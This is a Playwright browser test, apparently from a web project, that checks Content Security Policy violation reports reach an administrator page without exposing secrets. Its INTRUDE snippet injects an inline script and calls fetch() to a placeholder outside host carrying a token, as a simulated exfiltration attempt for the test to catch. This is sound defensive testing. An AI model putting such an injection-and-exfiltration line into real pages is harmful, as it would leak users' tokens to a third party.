"""What a browser stops on our pages reaches the administrators, and nothing secret with it."""

from __future__ import annotations

from playwright.sync_api import Browser, StorageState, expect

from tests.browser.conftest import sign_in
from tests.served import Served

INTRUDE = """() => {
  const script = document.createElement("script");
  script.textContent = "document.title = 'taken over'";
  document.body.append(script);
  fetch("https://elsewhere.example/?token=secret").catch(() => {});
}"""


def test_what_a_browser_stops_is_shown_to_administrators(
    exhibit: Served, chromium: Browser, admin_state: StorageState
) -> None:
    context = chromium.new_context()
    sign_in(context, admin_state)
    page = context.new_page()
    page.goto(f"{exhibit.url}/help/?q=secret")
    page.evaluate(INTRUDE)
    assert page.title() != "taken over"
    for _ in range(20):  # a browser sends it when it has time
        page.goto(f"{exhibit.url}/site/policy/")
        if page.locator("tbody tr").count() == 2:
            break
        page.wait_for_timeout(500)
    rows = page.locator("tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.filter(has_text="inline")).to_contain_text("script-src-elem")
    expect(rows.filter(has_text="https://elsewhere.example")).to_contain_text("connect-src")
    expect(rows.filter(has_text="help")).to_have_count(2)
    assert "secret" not in page.content()
    page.get_by_role("button", name="Forget all").click()
    expect(page.get_by_role("heading", name="No report")).to_be_visible()
    context.close()
